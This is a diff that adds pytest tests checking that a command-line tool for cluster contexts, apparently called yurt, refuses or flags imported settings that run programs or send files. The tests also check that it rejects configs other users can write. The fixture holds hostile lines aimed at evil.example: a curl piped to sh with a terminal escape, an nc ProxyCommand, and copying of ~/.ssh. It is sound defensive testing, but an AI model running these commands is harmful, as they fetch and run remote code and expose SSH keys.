@@ -201,6 +201,85 @@ def test_import(yurt: Yurt, file: Path, tmp_path: Path) -> None:
     assert yurt("context", "import", str(theirs)).out == f"{theirs} contains no contexts\n"
 
 
+THEIRS = r"""contexts:
+  big: {type: slurm, slurm_url: me@big.example, partition: main}
+  evil:
+    type: slurm
+    slurm_url: me@evil.example
+    ssh_command: [sh, -c, "curl evil.example\x1b]0;owned\x07\n  big.venv: x | sh"]
+    ssh_options: ["-oProxyCommand=nc evil.example 22"]
+    paths_to_copy: [~/.ssh]
+    after_module_load_cmd: "source /home/mallory/x"
+"""
+SHOWN = [
+    'evil.ssh_options: ["-oProxyCommand=nc evil.example 22"] (passed to ssh on this machine',
+    r'evil.ssh_command: ["sh","-c","curl evil.example\u001b]0;owned\u0007\n  big.venv: x | sh"] (runs on this machine',
+    'evil.after_module_load_cmd: "source /home/mallory/x" (runs in every job)',
+    'evil.paths_to_copy: ["~/.ssh"] (files of this machine',
+]
+
+
+def test_import_of_settings_that_run_programs(yurt: Yurt, file: Path, tmp_path: Path) -> None:
+    """Without a terminal they are refused and shown; --yes accepts them; the same settings are accepted only once."""
+    file.unlink()
+    theirs = tmp_path / "theirs.yaml"
+    theirs.write_text(THEIRS)
+    refused = yurt("context", "import", str(theirs))
+    first, *lines, hint = refused.err.splitlines()
+    assert refused.code == 2 and refused.out == "" and [*file.parent.iterdir()] == []
+    assert first == f"yurt: {theirs} sets keys that run programs or send files:" and hint.endswith("add `--yes`")
+    assert len(lines) == len(SHOWN)
+    assert all(line.startswith(f"  {text}") for line, text in zip(lines, SHOWN, strict=True)), lines
+    error = yurt("context", "import", str(theirs), "--json").json["error"]
+    assert error["code"] == "not-confirmed" and [*file.parent.iterdir()] == []
+    assert yurt("context", "import", str(theirs), "--yes").out == "added: big, evil\n"
+    assert yurt("context", "import", str(theirs)).out == "unchanged: big, evil\n"
+    theirs.write_text(THEIRS.replace("partition: main", "partition: long"))
+    assert yurt("context", "import", str(theirs), "--replace").code == 0
+    theirs.write_text(THEIRS.replace("nc evil", "nc other"))
+    before = file.read_bytes()
+    assert yurt("context", "import", str(theirs)).err.startswith(f"yurt: {file} already has different contexts")
+    again = yurt("context", "import", str(theirs), "--replace")
+    assert again.code == 2 and len(again.err.splitlines()) == 3 and file.read_bytes() == before
+
+
+@pytest.mark.parametrize("answer", ["y", "n"])
+def test_import_asks_on_a_terminal(file: Path, tmp_path: Path, answer: str) -> None:
+    theirs = tmp_path / "theirs.yaml"
+    theirs.write_text(THEIRS.replace("  big:", "  large:"))
+    environment = {**os.environ, "YURT_CONFIG_HOME": str(file.parent), "YURT_DATA_HOME": str(tmp_path / "data")}
+    child = pexpect.spawn(
+        YURT, ["context", "import", str(theirs)], env=environment, encoding="utf8", timeout=60, dimensions=(40, 300)
+    )
+    child.expect_exact("import them? [y/N]: ")
+    shown = child.before
+    assert all(text in shown for text in SHOWN) and "\x1b" not in shown
+    assert untouched(file)
+    child.sendline(answer)
+    child.expect(pexpect.EOF)
+    child.close()
+    assert (child.exitstatus == 0) == ("evil" in file.read_text()) == (answer == "y")
+
+
+def test_import_of_a_context_named_local(yurt: Yurt, file: Path, tmp_path: Path) -> None:
+    """A context that takes the place of this machine is a setting that sends files."""
+    theirs = tmp_path / "theirs.yaml"
+    theirs.write_text("contexts: {local: {type: slurm, slurm_url: me@evil.example}}\n")
+    refused = yurt("context", "import", str(theirs))
+    assert refused.code == 2 and "replaces the built-in context" in refused.err and untouched(file)
+
+
+def test_contexts_that_others_can_write(yurt: Yurt, file: Path) -> None:
+    """Neither read nor changed."""
+    file.chmod(0o606)
+    for words in (["list"], ["use", "big"], ["remove", "big"]):
+        refused = yurt("context", *words)
+        assert refused.code == 2 and f"cannot use {file}: other users can write to it" in refused.err
+        assert f"`chmod go-w {file}`" in refused.err
+    file.chmod(0o604)
+    assert yurt("context", "list").code == 0
+
+
 def test_edit(yurt: Yurt, file: Path, editor: Editor, tmp_path: Path) -> None:
     seen = tmp_path / "seen"
     script = f'cp "$1" \'{seen}\'; stat -c %a "$1" "$(dirname "$1")" >> \'{seen}\'; echo \'venv: v  # mine\' >> "$1"'
